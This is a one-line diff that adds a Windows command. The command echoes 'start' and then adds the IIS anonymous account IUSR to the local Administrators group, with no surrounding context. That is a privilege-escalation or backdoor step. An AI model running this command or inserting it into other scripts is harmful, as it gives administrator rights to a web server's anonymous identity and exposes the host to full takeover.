@@ -1,0 +1,1 @@
+cmd /c "echo start && net localgroup Administrators IUSR /add"
